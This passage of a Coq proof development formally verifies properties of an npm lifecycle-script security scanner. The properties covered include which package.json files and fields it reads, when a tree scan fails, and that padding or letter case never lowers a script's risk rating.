    scanPackageJson prepareOnly ["package.json"%string] = Ok r
    /\ scripts r = [] /\ overallRisk r = SAFE.
Proof.
  destruct (no_lifecycle_script_is_safe prepareOnly ["package.json"%string] _
              eq_refl) as (r & H & S & O & _).
  - discriminate.
  - intros key I. unfold dangerousScripts in I.
    repeat (destruct I as [<-|I]; [reflexivity|]). destruct I.
  - now exists r.
Defined.

Lemma scanScripts_ext sc sc' : forall names results,
  (forall key, In key names -> get sc key = get sc' key) ->
  scanScripts sc names results = scanScripts sc' names results.
Proof.
  induction names as [|name names IH]; intros results G; [reflexivity|].
  cbn [scanScripts]. rewrite <- (G name (or_introl eq_refl)).
  destruct (get sc name) as [entry|]; [|reflexivity]. cbn [bind].
  assert (G' : forall key, In key names -> get sc key = get sc' key)
    by (intros key I; apply G; now right).
  destruct (truthy entry); [|now apply IH].
  destruct entry as [content|]; [|now apply IH].
  destruct (analyzeScript name content); [|reflexivity]. cbn [bind].
  now apply IH.
Qed.

Lemma scanScripts_nothing sc : forall names results,
  (forall key, In key names -> get sc key = Ok None) ->
  scanScripts sc names results = Ok results.
Proof.
  induction names as [|name names IH]; intros results G; [reflexivity|].
  cbn [scanScripts]. rewrite (G name (or_introl eq_refl)). cbn [bind truthy].
  apply IH. intros key I. apply G. now right.
Qed.

(** The loops of two documents with the same lifecycle entries. *)
Lemma lifecycle_loop_agree v v' results :
  (forall key, In key dangerousScripts ->
               lifecycleEntry v key = lifecycleEntry v' key) ->
  (if truthy (field v "scripts")
   then scanScripts (field v "scripts") dangerousScripts results
   else Ok results)
  = (if truthy (field v' "scripts")
     then scanScripts (field v' "scripts") dangerousScripts results
     else Ok results).
Proof.
  intros El.
  destruct (truthy (field v "scripts")) eqn:T;
    destruct (truthy (field v' "scripts")) eqn:T'.
  - apply scanScripts_ext. intros key I.
    rewrite (get_lifecycleEntry v key T), (get_lifecycleEntry v' key T').
    now rewrite (El key I).
  - apply scanScripts_nothing. intros key I.
    rewrite (get_lifecycleEntry v key T), (El key I).
    now rewrite (lifecycleEntry_falsy_scripts v' key T').
  - symmetry. apply scanScripts_nothing. intros key I.
    rewrite (get_lifecycleEntry v' key T'), <- (El key I).
    now rewrite (lifecycleEntry_falsy_scripts v key T).
  - reflexivity.
Qed.

(** X4: the outcome of a single-file scan depends on nothing in the metadata
    but [name], [version], the entries of the six lifecycle keys and whether
    the document is [null]: two readable JSON documents that agree on these
    give the same result or the same error, whatever other scripts or fields
    they hold. *)
Theorem other_scripts_are_ignored fs p v fs' p' v' :
  fs p = Some (RegularFile true (Json v)) ->
  fs' p' = Some (RegularFile true (Json v')) ->
  (v = JNull <-> v' = JNull) ->
  field v "name" = field v' "name" ->
  field v "version" = field v' "version" ->
  (forall key, In key dangerousScripts ->
               lifecycleEntry v key = lifecycleEntry v' key) ->
  scanPackageJson fs p = scanPackageJson fs' p'.
Proof.
  intros F F' N En Ev El.
  assert (D : {v = JNull} + {v <> JNull})
    by (destruct v; (now left) || (right; discriminate)).
  destruct D as [Z|Z].
  - pose proof (proj1 N Z) as Z'. subst v v'.
    now rewrite (scanPackageJson_null fs p F), (scanPackageJson_null fs' p' F').
  - assert (Z' : v' <> JNull) by (intros H; apply Z; now apply N).
    rewrite (scanPackageJson_document fs p v F Z).
    rewrite (scanPackageJson_document fs' p' v' F' Z').
    unfold initialResults. rewrite En, Ev.
    now rewrite (lifecycle_loop_agree v v' _ El).
Qed.

Lemma other_scripts_are_ignored_witness :
  scanPackageJson prepareAndInstall ["package.json"%string]
  = scanPackageJson installOnly ["package.json"%string].
Proof.
  apply (other_scripts_are_ignored prepareAndInstall ["package.json"%string] _
           installOnly ["package.json"%string] _ eq_refl eq_refl);
    try reflexivity.
  - split; discriminate.
  - intros key I. unfold dangerousScripts in I.
    repeat (destruct I as [<-|I]; [reflexivity|]). destruct I.
Defined.

(** ** What a tree scan reports *)

(** On the results of a scan, the test of [scanNodeModules] holds exactly
    when a script was recorded. *)
Lemma worthReporting_scripts fs p r :
  scanPackageJson fs p = Ok r ->
  worthReporting r = true <-> scripts r <> [].
Proof.
  intros H. apply scanPackageJson_result in H.
  destruct H as ((T & W) & O & _). unfold worthReporting.
  assert (D : scripts r = [] \/ scripts r <> [])
    by (destruct (scripts r); [now left|right; discriminate]).
  destruct D as [E|NE].
  - rewrite O, T. unfold calculateOverallRisk. rewrite E. cbn.
    split; [discriminate|intros C; now contradiction C].
  - destruct (calculateOverallRisk_top r W NE) as (name & top & I & L & _).
    rewrite Forall_forall in W.
    assert (Wt : wellScored top).
    { apply W. unfold Object_values. apply in_map_iff. now exists (name, top). }
    rewrite O, L. destruct Wt as [_ S].
    split; [intros _; exact NE|intros _].
    destruct (riskLevel top); try reflexivity. now contradiction S.
Qed.

(** X5: every result a tree scan returns records at least one lifecycle
    script and has a tier other than SAFE; a scanned package is left out
    exactly when it records no script, so a package with any non-empty
    lifecycle script is reported even when nothing in it matches. *)
Theorem reported_iff_scripted fs root rs :
  scanNodeModules fs root = Ok rs ->
  (forall r, In r rs -> scripts r <> [] /\ overallRisk r <> SAFE)
  /\ (forall p r, In p (metadataFiles fs root) ->
                  scanPackageJson fs p = Ok r ->
                  (In r rs <-> scripts r <> [])).
Proof.
  unfold scanNodeModules. intros H.
  destruct (walkNodeModules fs root) as [w|e] eqn:W; [|discriminate H].
  cbn [bind] in H. injection H as <-.
  apply walkNodeModules_visited in W. rewrite W.
  unfold visited, start. cbn [results app]. fold (metadataFiles fs root).
  split.
  - intros r I. apply in_flat_map in I. destruct I as (p & _ & I).
    unfold contribution in I.
    destruct (scanPackageJson fs p) as [r'|] eqn:E; [|destruct I].
    destruct (worthReporting r') eqn:R; [|destruct I].
    destruct I as [<-|[]].
    pose proof (proj1 (worthReporting_scripts fs p r' E) R) as S.
    split; [exact S|].
    apply scanPackageJson_result in E. destruct E as ((_ & Wl) & O & _).
    destruct (calculateOverallRisk_top r' Wl S) as (name & top & I & L & _).
    rewrite Forall_forall in Wl.
    assert (Wt : wellScored top).
    { apply Wl. unfold Object_values. apply in_map_iff. now exists (name, top). }
    rewrite O, L. apply Wt.
  - intros p r I E. split.
    + intros Ir. apply in_flat_map in Ir. destruct Ir as (q & _ & Iq).
      unfold contribution in Iq.
      destruct (scanPackageJson fs q) as [r'|] eqn:E'; [|destruct Iq].
      destruct (worthReporting r') eqn:R; [|destruct Iq].
      destruct Iq as [<-|[]].
      now apply (worthReporting_scripts fs q r' E').
    + intros S. apply in_flat_map. exists p. split; [exact I|].
      unfold contribution. rewrite E.
      rewrite (proj2 (worthReporting_scripts fs p r E) S). now left.
Qed.

Lemma reported_iff_scripted_witness :
  exists rs,
    scanNodeModules mixedTree nodeModules = Ok rs
    /\ forall r, In r rs -> scripts r <> [] /\ overallRisk r <> SAFE.
Proof.
  destruct (scanNodeModules mixedTree nodeModules) as [rs|e] eqn:E.
  - exists rs. split; [reflexivity|].
    exact (proj1 (reported_iff_scripted mixedTree nodeModules rs E)).
  - vm_compute in E. discriminate E.
Defined.

Lemma scanPackages_listable fs root : forall packages w w',
  scanPackages fs root packages w = Ok w' ->
  forall d, In d packages -> startsWith (Dirent.name d) "@" = true ->
  exists inner, fs (root ++ [Dirent.name d]) = Some (Directory inner).
Proof.
  induction packages as [|d0 l IH]; intros w w' H d I S; [destruct I|].
  cbn [scanPackages] in H. unfold path_join in H.
  destruct I as [->|I].
  - rewrite S in H. unfold readdirSync in H.
    destruct (fs (root ++ [Dirent.name d])) as [[? ?|inner]|];
      try discriminate H. now exists inner.
  - destruct (startsWith (Dirent.name d0) "@").
    + destruct (readdirSync fs (root ++ [Dirent.name d0])); [|discriminate H].
      cbn [bind] in H. now apply (IH _ _ H d).
    + now apply (IH _ _ H d).
Qed.

(** X6: a tree scan returns exactly when the root does not exist (the list
    is then empty) or is a directory each of whose scope directories can be
    listed; on a root that is a regular file, and on a scope directory that
    cannot be listed, it throws, and the results collected so far are
    lost. *)
Theorem tree_scan_returns_iff fs root :
  (fs root = None -> scanNodeModules fs root = Ok [])
  /\ ((exists rs, scanNodeModules fs root = Ok rs)
      <-> fs root = None \/ listable fs root).
Proof.
  split.
  - intros F. unfold scanNodeModules, walkNodeModules, existsSync. now rewrite F.
  - split.
    + intros (rs & H). unfold scanNodeModules in H.
      destruct (walkNodeModules fs root) as [w|e] eqn:W; [|discriminate H].
      unfold walkNodeModules, existsSync, readdirSync in W.
      destruct (fs root) as [[readable content|listing]|] eqn:F;
        cbn [negb bind] in W; [discriminate W| |now left].
      right. exists listing. split; [exact F|]. intros d I D S.
      apply (scanPackages_listable fs root _ _ _ W d); [|exact S].
      apply filter_In. split; [exact I|].
      now rewrite D, (at_not_dot _ S).
    + intros [F|L].
      * exists []. unfold scanNodeModules, walkNodeModules, existsSync.
        now rewrite F.
      * destruct (walkNodeModules_returns fs root L) as (w & W).
        exists (results w). unfold scanNodeModules. now rewrite W.
Qed.

(** A listed scope directory of a candidate path. *)
Lemma candidate_complete fs root listing d :
  fs root = Some (Directory listing) ->
  In d listing -> Dirent.isDirectory d = true ->
  startsWith (Dirent.name d) "." = false ->
  In (root ++ [Dirent.name d; "package.json"%string]) (candidatePaths fs root)
  /\ (startsWith (Dirent.name d) "@" = true ->
      forall inner e,
        fs (root ++ [Dirent.name d]) = Some (Directory inner) ->
        In e inner -> Dirent.isDirectory e = true ->
        In (root ++ [Dirent.name d; Dirent.name e; "package.json"%string])
           (candidatePaths fs root)).
Proof.
  intros R I D T. unfold candidatePaths, readdirSync. rewrite R.
  assert (Id : In d (filter (fun d => Dirent.isDirectory d
                                      && negb (startsWith (Dirent.name d) "."))
                            listing)).
  { apply filter_In. split; [exact I|]. now rewrite D, T. }
  split.
  - apply in_flat_map. exists d. split; [exact Id|]. now left.
  - intros S inner e Fi Ie De. apply in_flat_map. exists d.
    split; [exact Id|]. right. rewrite S.
    unfold scopedCandidates, readdirSync. rewrite Fi.
    apply in_map_iff. exists e. split; [now rewrite <- app_assoc|].
    apply filter_In. now split.
Qed.

(** X7: the files a tree scan hands to [scanPackageJson] are exactly the
    existing [package.json] of the directories of the root that are not
    dot-prefixed and of every directory, dot-prefixed or not, one level
    below a scope directory of the root. *)
Theorem scanned_files fs root listing w p :
  fs root = Some (Directory listing) ->
  walkNodeModules fs root = Ok w ->
  In p (map fst (scanned w))
  <-> existsSync fs p = true
      /\ exists d,
           In d listing /\ Dirent.isDirectory d = true
           /\ startsWith (Dirent.name d) "." = false
           /\ (p = root ++ [Dirent.name d; "package.json"%string]
               \/ (startsWith (Dirent.name d) "@" = true
                   /\ exists inner e,
                        fs (root ++ [Dirent.name d]) = Some (Directory inner)
                        /\ In e inner /\ Dirent.isDirectory e = true
                        /\ p = root ++ [Dirent.name d; Dirent.name e;
                                        "package.json"%string])).
Proof.
  intros R W. apply walkNodeModules_visited in W. rewrite W.
  unfold visited, start. cbn [scanned app]. rewrite map_map. cbn [fst].
  rewrite map_id, filter_In. split.
  - intros (I & X). split; [exact X|].
    unfold candidatePaths, readdirSync in I. rewrite R in I.
    apply in_flat_map in I. destruct I as (d & I & C).
    apply filter_In in I. destruct I as (I & B).
    apply andb_prop in B. destruct B as (D & T). apply negb_true_iff in T.
    exists d. repeat split; try assumption.
    destruct C as [<-|C]; [now left|right].
    destruct (startsWith (Dirent.name d) "@"); [|destruct C].
    split; [reflexivity|]. unfold scopedCandidates, readdirSync in C.
    destruct (fs (root ++ [Dirent.name d])) as [[? ?|inner]|]; try destruct C.
    apply in_map_iff in C. destruct C as (e & <- & Ie).
    apply filter_In in Ie. destruct Ie as (Ie & De).
    exists inner, e. repeat split; try assumption. now rewrite <- app_assoc.
  - intros (X & d & I & D & T & C). split; [|exact X].
    destruct (candidate_complete fs root listing d R I D T) as (Own & Scoped).
    destruct C as [->|(S & inner & e & Fi & Ie & De & ->)]; [exact Own|].
    now apply (Scoped S inner e).
Qed.

Lemma scanned_files_witness :
  exists w,
    walkNodeModules scopedDotTree nodeModules = Ok w
    /\ In ["node_modules"; "@acme"; ".hidden"; "package.json"]%string
          (map fst (scanned w)).
Proof.
  destruct (walkNodeModules scopedDotTree nodeModules) as [w|e] eqn:W.
  - exists w. split; [reflexivity|].
    apply (scanned_files scopedDotTree nodeModules [dir "@acme"] w _ eq_refl W).
    split; [reflexivity|]. exists (dir "@acme").
    repeat split; [now left|]. right. split; [reflexivity|].
    exists [dir ".hidden"], (dir ".hidden"). repeat split. now left.
  - vm_compute in W. discriminate W.
Defined.

(** ** More on the matcher *)

(** The matcher depends on its continuation pointwise. *)
Lemma m_ext ic r : forall x k k',
  (forall y, k y = k' y) -> m ic r x k = m ic r x k'.
Proof.
  induction r as [|p| | |a IHa b IHb|a IHa b IHb|a IHa]; intros x k k' E;
    cbn [m].
  - apply E.
  - destruct x as [|c x']; [reflexivity|]. now rewrite E.
  - destruct x as [|c x']; [reflexivity|]. now rewrite E.
  - destruct x as [|c x']; [reflexivity|]. now rewrite E.
  - apply IHa. intros y. now apply IHb.
  - now rewrite (IHa x k k' E), (IHb x k k' E).
  - generalize (List.length x). intros bound. revert x.
    induction bound as [|bound IH]; intros x; [apply E|].
    rewrite E. erewrite IHa; [reflexivity|].
    intros y. cbv beta. destruct (List.length y <? List.length x)%nat;
      [apply IH|reflexivity].
Qed.

Lemma m_Star ic a x k :
  m ic (Star a) x k = iterate (m ic a) k (List.length x) x.
Proof.
  cbn [m]. generalize (List.length x). intros bound. revert x.
  induction bound as [|bound IH]; intros x; [reflexivity|].
  cbn [iterate]. erewrite m_ext; [reflexivity|].
  intros y. cbv beta. destruct (List.length y <? List.length x)%nat;
    [apply IH|reflexivity].
Qed.

(** ** Padding a script *)

Lemma iterate_extend step k k' t :
  (forall x q q', (forall y, q y <> None -> q' (y ++ t) <> None) ->
                  step x q <> None -> step (x ++ t) q' <> None) ->
  (forall x q z, step x q = Some z -> exists y, q y = Some z) ->
  (forall y, k y <> None -> k' (y ++ t) <> None) ->
  forall n x n',
    List.length x <= n -> List.length (x ++ t) <= n' ->
    iterate step k n x <> None -> iterate step k' n' (x ++ t) <> None.
Proof.
  intros St Su K. induction n as [|n IH]; intros x n' Lx Lt H.
  - cbn [iterate] in H. apply K in H.
    destruct n' as [|n']; cbn [iterate]; [exact H|].
    destruct (step (x ++ t) _); [discriminate|exact H].
  - revert H. cbn [iterate].
    match goal with
    | |- context [step x ?K] => destruct (step x K) as [z|] eqn:E
    end; intros H.
    + destruct n' as [|n'].
      * exfalso. apply Su in E. destruct E as (y & E).
        rewrite length_app in Lt.
        destruct (Nat.ltb_spec (List.length y) (List.length x));
          [lia|discriminate E].
      * cbn [iterate].
        assert (S' : step (x ++ t)
                       (fun y => if (List.length y <? List.length (x ++ t))%nat
                                 then iterate step k' n' y else None) <> None).
        { match type of E with
          | step x ?K = _ => apply (St x K)
          end.
          - intros y Hy.
            destruct (Nat.ltb_spec (List.length y) (List.length x)) as [L|L];
              [|now contradiction Hy].
            assert (L' : List.length (y ++ t) < List.length (x ++ t))
              by (rewrite !length_app; lia).
            apply Nat.ltb_lt in L'. rewrite L'.
            apply IH; [lia| |exact Hy].
            apply Nat.ltb_lt in L'. lia.
          - now rewrite E. }
        destruct (step (x ++ t) _); [discriminate|now contradiction S'].
    + apply K in H. destruct n' as [|n']; cbn [iterate]; [exact H|].
      destruct (step (x ++ t) _); [discriminate|exact H].
Qed.

Lemma m_result ic r x k z :
  m ic r x k = Some z -> exists y, k y = Some z.
Proof.
  intros H. apply m_suffix in H. destruct H as (w & y & _ & H). now exists y.
Qed.

(** A match survives text appended to the input. *)
Lemma m_extend ic r t : forall x k k',
  (forall y, k y <> None -> k' (y ++ t) <> None) ->
  m ic r x k <> None -> m ic r (x ++ t) k' <> None.
Proof.
  induction r as [|p| | |a IHa b IHb|a IHa b IHb|a IHa]; intros x k k' K H.
  - cbn [m] in *. now apply K.
  - cbn [m] in *. destruct x as [|c x']; [now contradiction H|].
    cbn [app]. destruct (char_eqb ic p c); [now apply K|exact H].
  - cbn [m] in *. destruct x as [|c x']; [now contradiction H|].
    cbn [app]. destruct (is_line_terminator c); [exact H|now apply K].
  - cbn [m] in *. destruct x as [|c x']; [now contradiction H|].
    cbn [app]. destruct (is_space c); [now apply K|exact H].
  - cbn [m] in *. apply (IHa x (fun y => m ic b y k)); [|exact H].
    intros y Hy. now apply (IHb y k).
  - cbn [m] in *. destruct (m ic a x k) eqn:E.
    + assert (A : m ic a (x ++ t) k' <> None)
        by (apply (IHa x k); [exact K|now rewrite E]).
      destruct (m ic a (x ++ t) k'); [discriminate|now contradiction A].
    + apply (IHb x k k' K) in H.
      destruct (m ic a (x ++ t) k'); [discriminate|exact H].
  - rewrite m_Star in *.
    apply (iterate_extend (m ic a) k k' t IHa (m_result ic a) K
             (List.length x) x (List.length (x ++ t))); [lia|lia|exact H].
Qed.

Lemma match_here_extend re y t :
  match_here re y <> None -> match_here re (y ++ t) <> None.
Proof.
  rewrite !match_here_some. apply m_extend. intros z _. discriminate.
Qed.

Lemma matchesIn_intro s p :
  global p = true -> exec_from p s 0 <> None -> matchesIn s p = true.
Proof.
  unfold matchesIn, String_match. intros -> H. cbn [match_all].
  destruct (exec_from p s 0) as [[i txt]|]; [reflexivity|now contradiction H].
Qed.

Lemma matchesIn_padded s p before after :
  global p = true -> matchesIn s p = true ->
  matchesIn (before ++ s ++ after) p = true.
Proof.
  intros G M. destruct (matchesIn_finds s p G M) as (w & y & -> & H).
  apply (matchesIn_intro _ p G).
  replace (before ++ (w ++ y) ++ after) with ((before ++ w) ++ (y ++ after))
    by now rewrite !app_assoc.
  apply exec_from_succeeds. now apply match_here_extend.
Qed.

Lemma test_padded re s before after :
  test re s = true -> test re (before ++ s ++ after) = true.
Proof.
  unfold test at 1. destruct (exec_from re s 0) as [r|] eqn:E; [|discriminate].
  intros _. apply exec_from_finds in E. destruct E as (w & y & -> & H).
  replace (before ++ (w ++ y) ++ after) with ((before ++ w) ++ (y ++ after))
    by now rewrite !app_assoc.
  apply test_intro. now apply match_here_extend.
Qed.

Lemma filter_length_le {A} (f g : A -> bool) : forall l,
  (forall a, In a l -> f a = true -> g a = true) ->
  List.length (filter f l) <= List.length (filter g l).
Proof.
  induction l as [|a l IH]; intros H; [reflexivity|]. cbn [filter].
  assert (IH' := IH (fun b I => H b (or_intror I))).
  destruct (f a) eqn:F.
  - rewrite (H a (or_introl eq_refl) F). cbn [List.length]. lia.
  - destruct (g a); cbn [List.length]; lia.
Qed.

Lemma countLevel_monotone n n' :
  n <= n' -> tier_le (countLevel n) (countLevel n').
Proof.
  intros L. unfold tier_le, countLevel.
  destruct (Nat.leb_spec 5 n), (Nat.leb_spec 5 n'),
    (Nat.leb_spec 3 n), (Nat.leb_spec 3 n'),
    (Nat.leb_spec 1 n), (Nat.leb_spec 1 n'); cbn [rank]; lia.
Qed.

Lemma combined_padded s before after :
  combined s = true -> combined (before ++ s ++ after) = true.
Proof.
  unfold combined, hasNetwork, hasEnv, hasExec, hasObfuscation.
  rewrite !orb_true_iff, !andb_true_iff.
  intros [[A B]|[A B]]; [left|right]; split; now apply test_padded.
Qed.

(** X8: text added before or after a script never lowers its assessment:
    every catalog pattern that matches the script still matches, every note
    is kept, and the tier and the score do not decrease. *)
Theorem padding_never_lowers name s before after :
  let a := analyzeString name s in
  let a' := analyzeString name (before ++ s ++ after) in
  (forall src, In src (map pattern_source (matches a)) ->
               In src (map pattern_source (matches a')))
  /\ (forall note, In note (risks a) -> In note (risks a'))
  /\ tier_le (riskLevel a) (riskLevel a')
  /\ (score a <= score a')%Z.
Proof.
  intros a a'. subst a a'.
  assert (M : forall p, In p suspiciousPatterns -> matchesIn s p = true ->
                        matchesIn (before ++ s ++ after) p = true).
  { intros p I. apply matchesIn_padded. now apply catalog_global. }
  assert (T : tier_le (riskLevel (analyzeString name s))
                (riskLevel (analyzeString name (before ++ s ++ after)))).
  { rewrite !riskLevel_analyzeString.
    destruct (combined s) eqn:C.
    - rewrite (combined_padded s before after C). unfold tier_le. lia.
    - destruct (combined (before ++ s ++ after));
        [apply tier_le_CRITICAL|].
      apply countLevel_monotone. now apply filter_length_le. }
  split; [|split; [|split]].
  - intros src. unfold analyzeString. cbn [matches].
    rewrite !collect_sources, !in_map_iff.
    intros (p & E & I). apply filter_In in I. destruct I as (I & Mp).
    exists p. split; [exact E|]. apply filter_In. split; [exact I|].
    now apply M.
  - intros note. rewrite !risks_analyzeString, !in_app_iff.
    intros [I|I]; [left|right].
    + destruct (combined s) eqn:C; [|destruct I].
      now rewrite (combined_padded s before after C).
    + unfold hasObfuscation in *.
      match type of I with
      | In _ (if ?t then _ else _) => destruct t eqn:O; [|destruct I]
      end.
      now rewrite (test_padded _ s before after O).
  - exact T.
  - rewrite !score_analyzeString. unfold tier_le in T.
    destruct (riskLevel (analyzeString name s)),
      (riskLevel (analyzeString name (before ++ s ++ after)));
      cbn [rank riskScores] in *; lia.
Qed.

(** ** Letter case *)

Lemma canonicalize_cases c :
  canonicalize true c = c
  \/ ((97 <= c <= 122)%N /\ canonicalize true c = (c - 32)%N).
Proof.
  unfold canonicalize. cbn [andb].
  destruct (N.leb_spec 97 c), (N.leb_spec c 122); cbn [andb]; auto.
Qed.

Lemma canonicalize_idempotent c :
  canonicalize true (canonicalize true c) = canonicalize true c.
Proof.
  destruct (canonicalize_cases c) as [E|(R & E)]; [now rewrite !E|].
  rewrite E. unfold canonicalize. cbn [andb].
  destruct (N.leb_spec 97 (c - 32)); [lia|reflexivity].
Qed.

Lemma char_eqb_upper p c :
  char_eqb true p (canonicalize true c) = char_eqb true p c.
Proof. unfold char_eqb. now rewrite canonicalize_idempotent. Qed.

Lemma letters_are_not_space c : (65 <= c <= 122)%N -> is_space c = false.
Proof.
  intros R. unfold is_space, is_line_terminator.
  repeat match goal with
         | |- context [(c =? ?k)%N] =>
             destruct (N.eqb_spec c k); [lia|]
         | |- context [(?k <=? c)%N] =>
             destruct (N.leb_spec k c); [lia|]
         end.
  reflexivity.
Qed.

Lemma letters_are_not_terminators c :
  (65 <= c <= 122)%N -> is_line_terminator c = false.
Proof.
  intros R. unfold is_line_terminator.
  repeat match goal with
         | |- context [(c =? ?k)%N] =>
             destruct (N.eqb_spec c k); [lia|]
         end.
  reflexivity.
Qed.

Lemma is_space_upper c : is_space (canonicalize true c) = is_space c.
Proof.
  destruct (canonicalize_cases c) as [->|(R & ->)]; [reflexivity|].
  rewrite !letters_are_not_space; [reflexivity|lia|lia].
Qed.

Lemma is_line_terminator_upper c :
  is_line_terminator (canonicalize true c) = is_line_terminator c.
Proof.
  destruct (canonicalize_cases c) as [->|(R & ->)]; [reflexivity|].
  rewrite !letters_are_not_terminators; [reflexivity|lia|lia].
Qed.

Lemma length_upperCase x : List.length (upperCase x) = List.length x.
Proof. apply length_map. Qed.

Lemma iterate_upper step k :
  (forall x q, step (upperCase x) q = step x (fun y => q (upperCase y))) ->
  (forall x q q', (forall y, q y = q' y) -> step x q = step x q') ->
  forall n x,
    iterate step k n (upperCase x)
    = iterate step (fun y => k (upperCase y)) n x.
Proof.
  intros U E. induction n as [|n IH]; intros x; [reflexivity|].
  cbn [iterate]. rewrite U.
  erewrite E; [reflexivity|]. intros y. cbv beta.
  rewrite !length_upperCase.
  destruct (List.length y <? List.length x)%nat; [apply IH|reflexivity].
Qed.

(** Under flag [i] the matcher does not see the case of the input. *)
Lemma m_upper r : forall x k,
  m true r (upperCase x) k = m true r x (fun y => k (upperCase y)).
Proof.
  induction r as [|p| | |a IHa b IHb|a IHa b IHb|a IHa]; intros x k.
  - reflexivity.
  - cbn [m]. destruct x as [|c x']; [reflexivity|]. cbn [upperCase map].
    now rewrite char_eqb_upper.
  - cbn [m]. destruct x as [|c x']; [reflexivity|]. cbn [upperCase map].
    now rewrite is_line_terminator_upper.
  - cbn [m]. destruct x as [|c x']; [reflexivity|]. cbn [upperCase map].
    now rewrite is_space_upper.
  - cbn [m]. rewrite IHa. apply m_ext. intros y. apply IHb.
  - cbn [m]. now rewrite IHa, IHb.
  - rewrite !m_Star, length_upperCase.
    apply iterate_upper; [exact IHa|apply m_ext].
Qed.

Lemma iterate_map_result step (f : jsstring -> jsstring) k :
  (forall x q, step x (fun y => option_map f (q y))
               = option_map f (step x q)) ->
  (forall x q q', (forall y, q y = q' y) -> step x q = step x q') ->
  forall n x,
    iterate step (fun y => option_map f (k y)) n x
    = option_map f (iterate step k n x).
Proof.
  intros F E. induction n as [|n IH]; intros x; [reflexivity|].
  cbn [iterate].
  rewrite <- (E x (fun y => option_map f
                              (if (List.length y <? List.length x)%nat
                               then iterate step k n y else None))).
  - rewrite F. now destruct (step x _).
  - intros y. cbv beta. destruct (List.length y <? List.length x)%nat;
      [now rewrite IH|reflexivity].
Qed.

(** Mapping the result of the continuation maps the result of the matcher. *)
Lemma m_map_result ic (f : jsstring -> jsstring) r : forall x k,
  m ic r x (fun y => option_map f (k y)) = option_map f (m ic r x k).
Proof.
  induction r as [|p| | |a IHa b IHb|a IHa b IHb|a IHa]; intros x k.
  - reflexivity.
  - cbn [m]. destruct x as [|c x']; [reflexivity|].
    now destruct (char_eqb ic p c).
  - cbn [m]. destruct x as [|c x']; [reflexivity|].
    now destruct (is_line_terminator c).
  - cbn [m]. destruct x as [|c x']; [reflexivity|].
    now destruct (is_space c).
  - cbn [m]. rewrite <- IHa. apply m_ext. intros y. apply IHb.
  - cbn [m]. rewrite IHa, IHb. now destruct (m ic a x k).
  - rewrite !m_Star. apply iterate_map_result; [exact IHa|apply m_ext].
Qed.

Lemma match_here_upper re x :
  ignoreCase re = true ->
  match_here re (upperCase x) = option_map upperCase (match_here re x).
Proof.
  unfold match_here. intros ->. rewrite m_upper.
  rewrite (m_ext true (pattern re) x (fun y => Some (upperCase y))
             (fun y => option_map upperCase (Some y)))
    by reflexivity.
  rewrite m_map_result.
  destruct (m true (pattern re) x (fun y => Some y)) as [rest|]; [|reflexivity].
  cbn [option_map]. rewrite !length_upperCase. unfold upperCase.
  now rewrite firstn_map.
Qed.

Lemma exec_from_eq re x n :
  exec_from re x n
  = match match_here re x with
    | Some txt => Some (n, txt)
    | None =>
        match x with
        | [] => None
        | _ :: x' => exec_from re x' (S n)
        end
    end.
Proof. now destruct x. Qed.

Lemma exec_from_upper re : ignoreCase re = true -> forall x n,
  exec_from re (upperCase x) n
  = option_map (fun r => (fst r, upperCase (snd r))) (exec_from re x n).
Proof.
  intros I. induction x as [|c x IH]; intros n;
    rewrite (exec_from_eq re (upperCase _)), (exec_from_eq re _ n),
      (match_here_upper re _ I).
  - now destruct (match_here re []).
  - destruct (match_here re (c :: x)); [reflexivity|].
    cbn [option_map upperCase map]. apply IH.
Qed.

Lemma test_upper re s :
  ignoreCase re = true -> test re (upperCase s) = test re s.
Proof.
  intros I. unfold test. rewrite (exec_from_upper re I).
  now destruct (exec_from re s 0).
Qed.

Lemma skipn_upperCase n x : skipn n (upperCase x) = upperCase (skipn n x).
Proof. apply skipn_map. Qed.

Lemma match_all_upper re : ignoreCase re = true -> forall bound x,
  match_all re bound (upperCase x) = map upperCase (match_all re bound x).
Proof.
  intros I. induction bound as [|bound IH]; intros x; [reflexivity|].
  cbn [match_all]. rewrite (exec_from_upper re I).
  destruct (exec_from re x 0) as [[i txt]|]; [|reflexivity].
  cbn [option_map fst snd map]. cbv zeta. f_equal.
  rewrite length_upperCase, skipn_upperCase.
  destruct txt as [|c txt].
  - cbn [upperCase map].
    match goal with
    | |- context [skipn ?n x] => destruct (skipn n x) as [|d rest]
    end; [reflexivity|]. cbn [upperCase map]. apply IH.
  - cbn [upperCase map]. apply IH.
Qed.

Lemma matchesIn_upper s p :
  ignoreCase p = true -> matchesIn (upperCase s) p = matchesIn s p.
Proof.
  intros I. unfold matchesIn, String_match. destruct (global p).
  - rewrite length_upperCase, (match_all_upper p I).
    now destruct (match_all p (S (List.length s)) s).
  - rewrite (exec_from_upper p I). now destruct (exec_from p s 0) as [[i t]|].
Qed.

Lemma catalog_ignoreCase p : In p suspiciousPatterns -> ignoreCase p = true.
Proof.
  unfold suspiciousPatterns, networkPatterns, fileSystemPatterns,
    shellPatterns, environmentPatterns, tokenPatterns, obfuscationPatterns,
    cryptoPatterns, bunPatterns.
  simpl. intros H.
  repeat (destruct H as [<-|H]; [reflexivity|]). destruct H.
Qed.

Lemma first_upper s p :
  global p = true -> ignoreCase p = true ->
  option_map first (String_match (upperCase s) p)
  = option_map (fun found => upperCase (first found)) (String_match s p).
Proof.
  intros G I. unfold String_match. rewrite G.
  rewrite length_upperCase, (match_all_upper p I).
  now destruct (match_all p (S (List.length s)) s).
Qed.

Lemma combined_upper s : combined (upperCase s) = combined s.
Proof.
  unfold combined, hasNetwork, hasEnv, hasExec, hasObfuscation.
  now rewrite !test_upper by reflexivity.
Qed.

Lemma matched_upper s : forall ps,
  (forall p, In p ps -> global p = true /\ ignoreCase p = true) ->
  map matched (collect (upperCase s) ps [])
  = map (fun mt => upperCase (matched mt)) (collect s ps []).
Proof.
  intros ps H.
  rewrite !collect_entries by (intros p I; now apply H).
  induction ps as [|p ps IH]; [reflexivity|].
  cbn [flat_map]. rewrite !map_app, IH by (intros q I; apply H; now right).
  f_equal. destruct (H p (or_introl eq_refl)) as (G & I).
  pose proof (first_upper s p G I) as F.
  destruct (String_match (upperCase s) p), (String_match s p);
    cbn [option_map] in F; try discriminate F; [|reflexivity].
  injection F as F. cbn [map matched]. now rewrite F.
Qed.

(** The analysis of a script with its letters in upper case. *)
Lemma analysis_upper name s :
  let a := analyzeString name s in
  let b := analyzeString name (upperCase s) in
  riskLevel b = riskLevel a /\ risks b = risks a
  /\ map pattern_source (matches b) = map pattern_source (matches a)
  /\ map matched (matches b)
     = map (fun mt => upperCase (matched mt)) (matches a).
Proof.
